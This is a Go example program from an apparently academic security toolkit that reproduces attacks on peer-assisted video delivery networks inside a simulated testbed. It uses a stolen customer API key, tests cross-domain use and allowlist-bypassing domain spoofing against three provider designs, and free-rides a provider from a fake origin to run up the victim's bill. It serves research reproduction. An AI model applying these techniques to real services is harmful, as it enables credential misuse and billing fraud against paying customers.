// Freeride: steal a PDN customer's API key (as trivially as reading
// their page source), test the §IV-B cross-domain and domain-spoofing
// attacks against all three public provider designs, then free-ride a
// vulnerable provider with attacker peers and read the victim's bill.
//
//	go run ./examples/freeride
package main

import (
	"context"
	"fmt"
	"os"
	"time"

	"github.com/stealthy-peers/pdnsec"
	"github.com/stealthy-peers/pdnsec/internal/analyzer"
	"github.com/stealthy-peers/pdnsec/internal/attack"
	"github.com/stealthy-peers/pdnsec/internal/netsim"
)

func main() {
	if err := run(); err != nil {
		fmt.Fprintf(os.Stderr, "freeride: %v\n", err)
		os.Exit(1)
	}
}

func run() error {
	ctx, cancel := context.WithTimeout(context.Background(), 3*time.Minute)
	defer cancel()

	fmt.Println("--- peer authentication tests (stolen key) ---")
	for _, prof := range pdnsec.PublicProfiles() {
		tb, err := pdnsec.NewTestbed(ctx, pdnsec.TestbedConfig{Profile: prof, CustomerDomain: "victim.com"})
		if err != nil {
			return err
		}
		attacker, err := tb.NewViewerHost("US")
		if err != nil {
			tb.Close()
			return err
		}
		proxy, err := tb.NewViewerHost("US")
		if err != nil {
			tb.Close()
			return err
		}
		stolen := tb.StolenConfig(attacker, 1)
		cross, err := attack.CrossDomain(ctx, stolen)
		if err != nil {
			tb.Close()
			return err
		}
		// Enforce the allowlist (as the paper did) before spoofing.
		if err := tb.Dep.Keys.SetAllowlist(tb.Key, []string{"victim.com"}); err != nil {
			tb.Close()
			return err
		}
		spoof, err := attack.DomainSpoof(ctx, stolen, proxy, "victim.com")
		if err != nil {
			tb.Close()
			return err
		}
		fmt.Printf("%-12s cross-domain: %-5v  domain-spoofing (allowlist on): %v\n", prof.Name, cross, spoof)
		tb.Close()
	}

	fmt.Println("\n--- free-riding traffic generation against peer5 ---")
	video := analyzer.SmallVideo("attacker-movie", 6, 128<<10)
	tb, err := pdnsec.NewTestbed(ctx, pdnsec.TestbedConfig{
		Profile:        pdnsec.Peer5(),
		Video:          video,
		CustomerDomain: "victim.com",
	})
	if err != nil {
		return err
	}
	defer tb.Close()

	hosts := make([]*netsim.Host, 4)
	for i := range hosts {
		h, err := tb.NewViewerHost("US")
		if err != nil {
			return err
		}
		hosts[i] = h
	}
	before := tb.Dep.Keys.Cost("victim.com")
	peer := tb.StolenConfig(hosts[0], 1)
	peer.Origin = "https://freerider.evil"
	peer.MaxSegments = video.Segments
	res, err := attack.GenerateTraffic(ctx, peer, hosts)
	if err != nil {
		return err
	}
	// Let the server digest the final stats reports.
	deadline := time.Now().Add(5 * time.Second)
	for time.Now().Before(deadline) && tb.Dep.Keys.Usage("victim.com").P2PBytes < res.P2PBytes {
		time.Sleep(10 * time.Millisecond)
	}
	u := tb.Dep.Keys.Usage("victim.com")
	fmt.Printf("attacker streamed its own video under the victim's key: %d P2P segments, %d bytes\n",
		res.P2PSegments, res.P2PBytes)
	fmt.Printf("victim's meter: %d P2P bytes, %d joins — bill went from $%.6f to $%.6f\n",
		u.P2PBytes, u.Joins, before, tb.Dep.Keys.Cost("victim.com"))
	fmt.Println("scaled to the paper's pricing ($500 per 50TB), a sustained attack costs the victim real money")
	return nil
}
